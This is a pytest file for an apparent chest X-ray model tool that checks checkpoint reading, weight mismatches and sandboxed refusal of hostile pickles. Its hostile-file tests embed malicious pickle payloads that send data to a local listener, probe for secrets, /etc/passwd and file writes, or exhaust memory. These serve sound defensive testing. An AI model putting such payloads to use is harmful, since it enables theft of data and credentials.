"""Checkpoints in their authors' formats are read; damaged, foreign and hostile ones are refused."""

from __future__ import annotations

import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from cxreval.datasets.nih import FINDINGS
from cxreval.errors import (
    CheckpointMismatch,
    CheckpointUnreadable,
    DigestMismatch,
    MalformedField,
    OutputsIncomplete,
    SandboxUnavailable,
    UnknownFinding,
)
from tests.conftest import require_module

require_module("safetensors")
require_module("cxreval.export.torch_libraries")

import torch  # noqa: E402 -- an optional extra
from torch import nn  # noqa: E402

from cxreval import sandbox  # noqa: E402
from cxreval.export import systems  # noqa: E402
from cxreval.export.checkpoint import Checkpoint, read_checkpoint  # noqa: E402
from tests.support import checkpoints  # noqa: E402
from tests.support.checkpoints import hostile  # noqa: E402

GRAY = np.random.default_rng(1).uniform(-1024, 1024, (3, 1, 64, 64)).astype(np.float32)
COLOR = np.random.default_rng(1).normal(size=(3, 3, 64, 64)).astype(np.float32)


@pytest.fixture(scope="module")
def densenet() -> nn.Module:
    return checkpoints.torchvision_network("densenet121", COLOR)


@pytest.fixture(scope="module")
def resnet() -> nn.Module:
    return checkpoints.torchvision_network("resnet50", COLOR)


def held(network: nn.Module, prefix: str = "") -> Checkpoint:
    return Checkpoint(
        {prefix + name: tensor for name, tensor in network.state_dict().items()}, "0" * 64, False
    )


def answers(module: nn.Module, images: np.ndarray) -> torch.Tensor:
    with torch.inference_mode():
        return module(torch.from_numpy(images))


# --- formats --------------------------------------------------------------------------------------


def test_chexnet_file_of_python_2_is_read_as_tensors_only(tmp_path: Path) -> None:
    network = checkpoints.chexnet(COLOR)
    checkpoint = read_checkpoint(checkpoints.save_chexnet(network, tmp_path / "model.pth.tar"))
    assert not checkpoint.whole_pickle
    assert "module.densenet121.features.denseblock1.denselayer1.norm.1.weight" in checkpoint.tensors
    assert "module.densenet121.classifier.0.weight" in checkpoint.tensors
    system = systems.build_chexnet(checkpoint)
    assert torch.equal(answers(system.original, COLOR), answers(network, COLOR))
    assert torch.allclose(answers(system.exported, COLOR), answers(network, COLOR), atol=1e-6)


def test_torchxrayvision_file_is_a_pickled_module_and_goes_through_the_librarys_loader(
    tmp_path: Path,
) -> None:
    network = checkpoints.xrv_densenet(GRAY)
    checkpoint = read_checkpoint(checkpoints.save_xrv_densenet(network, tmp_path / "xrv.pt"))
    assert checkpoint.whole_pickle
    assert len(checkpoint.sha256) == 64
    system = systems.build_torchxrayvision(checkpoint, "densenet121-res224-all")
    assert repr(system.original) == "XRV-DenseNet121-densenet121-res224-all"
    images = np.repeat(np.repeat(GRAY, 4, axis=2), 4, axis=3)[:, :, :224, :224]
    original = answers(system.original, images)
    thresholds = torch.tensor(checkpoints.torchxrayvision.models.model_urls["all"]["op_threshs"])
    expected = checkpoints.torchxrayvision.models.op_norm(
        answers(network, images).sigmoid(), thresholds
    )
    assert torch.equal(original, expected)
    assert torch.allclose(answers(system.exported, images), original[:, system.columns], atol=1e-6)
    assert [system.outputs[column] for column in system.columns] == list(FINDINGS)
    assert system.columns != list(range(14))


def test_torchxrayvision_resnet_of_512_pixels_is_the_librarys() -> None:
    system = systems.build_torchxrayvision(
        held(checkpoints.xrv_resnet(GRAY)), "resnet50-res512-all"
    )
    assert repr(system.original) == "XRV-ResNet-resnet50-res512-all"
    assert (system.profile.name, system.profile.shape) == ("xrv-512", (1, 512, 512))
    image = np.kron(GRAY[:1], np.ones((1, 1, 8, 8), np.float32))
    original = answers(system.original, image)[:, system.columns]
    assert torch.allclose(answers(system.exported, image), original, atol=1e-5)


@pytest.mark.parametrize(
    "options", [{}, {"data_parallel": True, "wrapped": True}], ids=["plain", "wrapped"]
)
def test_state_dicts_are_read_as_they_are_and_as_a_training_script_wraps_them(
    resnet: nn.Module, tmp_path: Path, options: dict[str, bool]
) -> None:
    checkpoint = read_checkpoint(checkpoints.save_state_dict(resnet, tmp_path / "r.pth", **options))
    assert not checkpoint.whole_pickle
    system = systems.build_torchvision("resnet50", checkpoint)
    assert torch.equal(answers(system.original, COLOR), answers(resnet, COLOR).sigmoid())


def test_module_under_model_is_read(densenet: nn.Module, tmp_path: Path) -> None:
    torch.save({"model": nn.DataParallel(densenet), "epoch": 1}, tmp_path / "checkpoint")
    checkpoint = read_checkpoint(tmp_path / "checkpoint")
    assert checkpoint.whole_pickle
    system = systems.build_torchvision("densenet121", checkpoint)
    assert torch.equal(answers(system.original, COLOR), answers(densenet, COLOR).sigmoid())


def test_outputs_in_another_order_are_moved_by_name(densenet: nn.Module) -> None:
    order = tuple(sorted(FINDINGS))
    system = systems.build_torchvision("densenet121", held(densenet), order)
    original, exported = answers(system.original, COLOR), answers(system.exported, COLOR)
    for column, finding in enumerate(FINDINGS):
        assert torch.allclose(exported[:, column], original[:, order.index(finding)], atol=1e-6)


def test_outputs_that_are_no_finding_are_left_out() -> None:
    order = ("", *FINDINGS[:7], "", *FINDINGS[7:])
    wide = checkpoints.torchvision_network("resnet50", COLOR, outputs=16)
    system = systems.build_torchvision("resnet50", held(wide), order)
    expected = answers(wide, COLOR).sigmoid()[
        :, [column for column, name in enumerate(order) if name]
    ]
    assert torch.allclose(answers(system.exported, COLOR), expected, atol=1e-6)


# --- weights that do not fit ----------------------------------------------------------------------


def test_other_architecture_is_named_with_counts(resnet: nn.Module) -> None:
    with pytest.raises(
        CheckpointMismatch,
        match=r"of the 727 tensors of the network, \d+ are missing \(features\..*\), "
        r"and the checkpoint has 267 others \(co",
    ):
        systems.build_torchvision("densenet121", held(resnet))


def test_wrong_number_of_outputs_is_named(densenet: nn.Module) -> None:
    wide = held(checkpoints.torchvision_network("densenet121", COLOR, outputs=15))
    with pytest.raises(
        CheckpointMismatch,
        match=r"the last layer classifier has 15 columns; the manifest declares 14",
    ):
        systems.build_torchvision("densenet121", wide)
    with pytest.raises(CheckpointMismatch, match=r"has 1 others \(x\)"):
        systems.build_torchvision(
            "densenet121", Checkpoint(held(densenet).tensors | {"x": torch.ones(1)}, "", False)
        )


@pytest.mark.parametrize(
    ("value", "kind", "found"),
    [
        (
            torch.nan,
            torch.float32,
            r"has values that are not finite; expected weights that are finite as torch\.float32",
        ),
        (
            1e300,
            torch.float64,
            "has values that are not finite",
        ),  # they become infinite when they are loaded
        (1.0, torch.float8_e4m3fn, r"is of torch\.float8_e4m3fn; expected torch\.float16 or"),
        (1.0, torch.complex64, r"is of torch\.complex64"),
        (1.0, torch.bool, r"is of torch\.bool"),
    ],
    ids=str,
)
def test_weights_that_are_no_numbers_in_float32_are_named(
    resnet: nn.Module, value: float, kind: torch.dtype, found: str
) -> None:
    tensors = held(resnet).tensors | {
        "fc.bias": torch.full((14,), value, dtype=torch.float64).to(kind)
    }
    with pytest.raises(CheckpointMismatch, match=rf"fc\.bias {found}"):
        systems.build_torchvision("resnet50", Checkpoint(tensors, "", False))


@pytest.mark.parametrize("kind", [torch.float16, torch.bfloat16, torch.float64])
def test_weights_of_other_floats_are_those_of_float32(resnet: nn.Module, kind: torch.dtype) -> None:
    tensors = held(resnet).tensors | {"fc.bias": torch.arange(14, dtype=kind)}
    loaded = (
        systems.build_torchvision("resnet50", Checkpoint(tensors, "", False)).original[0].fc.bias
    )
    assert torch.equal(loaded, torch.arange(14, dtype=torch.float32))


def test_operating_points_of_another_model_are_refused() -> None:
    tensors = held(checkpoints.xrv_densenet(GRAY)).tensors
    urls = checkpoints.torchxrayvision.models.model_urls
    own, other = (torch.tensor(urls[name]["op_threshs"]) for name in ("all", "nih"))
    systems.build_torchxrayvision(
        Checkpoint(tensors | {"op_threshs": own}, "", False), "densenet121-res224-all"
    )
    with pytest.raises(
        CheckpointMismatch, match="op_threshs are not those of densenet121-res224-all"
    ):
        systems.build_torchxrayvision(
            Checkpoint(tensors | {"op_threshs": other}, "", False), "densenet121-res224-all"
        )


def test_library_models_without_all_findings_and_unknown_ones_are_refused() -> None:
    for model in ("densenet121-res224-chex", "densenet121-res224-rsna", "densenet999"):
        with pytest.raises(MalformedField, match="expected one of densenet121-res224-all"):
            systems.torchxrayvision_file(model)
    for model in systems.TORCHXRAYVISION_MODELS:
        known = checkpoints.torchxrayvision.models.model_urls[model]
        points = dict(zip(known["labels"], known["op_threshs"], strict=True))
        assert all(0 < points[finding] < 1 for finding in FINDINGS)
        assert systems.torchxrayvision_file(model).startswith(
            "https://github.com/mlmed/torchxrayvision/releases/"
        )


def test_wrong_lists_of_outputs_are_named(densenet: nn.Module) -> None:
    with pytest.raises(UnknownFinding, match="'Lung Opacity'"):
        systems.build_torchvision("densenet121", held(densenet), (*FINDINGS[:13], "Lung Opacity"))
    with pytest.raises(OutputsIncomplete, match="14 names, missing Hernia"):
        systems.build_torchvision("densenet121", held(densenet), (*FINDINGS[:13], "Mass"))


# --- damaged and hostile files --------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        yield server


def test_pickle_reaches_no_network(listener: socket.socket, tmp_path: Path) -> None:
    address = listener.getsockname()
    program = f"import socket; socket.create_connection({address}, timeout=5).send(b'stolen')"
    file = hostile(tmp_path / "evil.pt", program)
    with pytest.raises(
        CheckpointUnreadable,
        match=r"Address family not supported|ConnectionRefusedError|Network is unreachable",
    ):
        read_checkpoint(file)
    with pytest.raises(TimeoutError):
        listener.accept()
    # The same file, opened as most scripts open it, does reach the listener.
    subprocess.run(
        [sys.executable, "-c", f"import torch; torch.load({str(file)!r}, weights_only=False)"],
        check=True,
        timeout=120,
    )
    with listener.accept()[0] as connection:
        assert connection.recv(100) == b"stolen"


def test_pickle_writes_no_file_and_sees_no_file_secret_or_socket(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CXREVAL_SECRET", "hunter2")
    (tmp_path / "secret").write_text("hunter2")
    repository = Path(__file__).parents[2]
    places = [
        directory / "x"
        for directory in (tmp_path, repository, Path("/usr"), Path("/"), Path(sys.prefix))
    ]
    # Its /tmp is a small one of its own, in memory; a checkout below /tmp has its path in there.
    outside = [str(place) for place in places if Path("/tmp") not in place.parents]
    program = f"""
import os, pathlib, socket
done = []
for place in {outside!r}:
    try:
        pathlib.Path(place).write_text('x'); done.append('wrote ' + place)
    except OSError:
        pass
if 'CXREVAL_SECRET' in os.environ: done.append('environment')
files = ({str(tmp_path / "secret")!r}, '/etc/passwd')
if any(os.path.exists(file) for file in files): done.append('read')
if len([name for name in os.listdir('/proc') if name.isdigit()]) > 5: done.append('processes')
if done: raise SystemExit('escaped: ' + ', '.join(done))
raise RuntimeError('nothing was possible')
"""
    with pytest.raises(CheckpointUnreadable, match="RuntimeError: nothing was possible"):
        read_checkpoint(hostile(tmp_path / "evil.pt", program))
    assert sorted(file.name for file in tmp_path.iterdir()) == ["evil.pt", "secret"]
    assert not [place for place in places if place.exists()]


@pytest.mark.parametrize(
    ("program", "said"),
    [
        ("bytearray(16 * 1024**3)", "MemoryError"),
        ("import os; os.write(1, b'no tensors'); os._exit(0)", "gave no tensors"),
    ],
    ids=["memory", "lies"],
)
def test_pickle_that_breaks_its_process_is_a_named_error(
    tmp_path: Path, program: str, said: str
) -> None:
    with pytest.raises(CheckpointUnreadable, match=said):
        read_checkpoint(hostile(tmp_path / "evil.pt", program))


def test_pickle_that_never_ends_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = hostile(tmp_path / "evil.pt", "import time; time.sleep(1000)")
    monkeypatch.setattr(sandbox, "TIMEOUT_SECONDS", 8.0)
    with pytest.raises(CheckpointUnreadable, match="took more than 8 s"):
        read_checkpoint(file)


def damaged(kind: str, path: Path) -> Path:
    match kind:
        case "missing":
            pass
        case "directory":
            path.mkdir()
        case "empty":
            path.touch()
        case "text":
            path.write_text("<!DOCTYPE html> Not found")
        case "truncated zip":
            torch.save({"weight": torch.ones(1000)}, path)
            path.write_bytes(path.read_bytes()[:-700])
        case "no tensors":
            torch.save({"epoch": 3}, path)
    return path


@pytest.mark.parametrize(
    "kind", ["missing", "directory", "empty", "text", "truncated zip", "no tensors"]
)
def test_damaged_file_is_named(tmp_path: Path, kind: str) -> None:
    with pytest.raises(
        CheckpointUnreadable, match=r"a\.pt cannot be read: .+; expected a PyTorch checkpoint"
    ):
        read_checkpoint(damaged(kind, tmp_path / "a.pt"))


def test_wrong_digest_is_named_before_the_file_is_opened(tmp_path: Path) -> None:
    file = hostile(tmp_path / "evil.pt", "raise RuntimeError('opened')")
    with pytest.raises(DigestMismatch, match="expected 0000"):
        read_checkpoint(file, "0" * 64)


@pytest.mark.parametrize("binaries", [[], ["/bin/false"]], ids=["absent", "forbidden"])
def test_without_a_sandbox_nothing_is_opened(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, binaries: list[str]
) -> None:
    monkeypatch.setattr(sandbox, "_binaries", lambda: iter(binaries))
    sandbox._probed.cache_clear()
    try:
        with pytest.raises(SandboxUnavailable, match="no sandbox: "):
            read_checkpoint(damaged("no tensors", tmp_path / "a.pt"))
    finally:
        sandbox._probed.cache_clear()


# --- the command ----------------------------------------------------------------------------------


@pytest.mark.parametrize("system", ["torchxrayvision", "chexnet", "densenet121", "resnet50"])
def test_command_fails_by_name_and_leaves_no_file(system: str, tmp_path: Path) -> None:
    from cxreval.cli.app import app

    out = tmp_path / "out"
    out.mkdir()
    result = CliRunner().invoke(
        app, ["export", system, str(out / "m.onnx"), "--weights", str(tmp_path / "none.pt")]
    )
    assert isinstance(result.exception, CheckpointUnreadable)
    result = CliRunner().invoke(
        app, ["export", system, str(out / "m.onnx"), "--weights", "x", "--sha256", "abc"]
    )
    assert isinstance(result.exception, MalformedField)
    assert list(out.iterdir()) == []
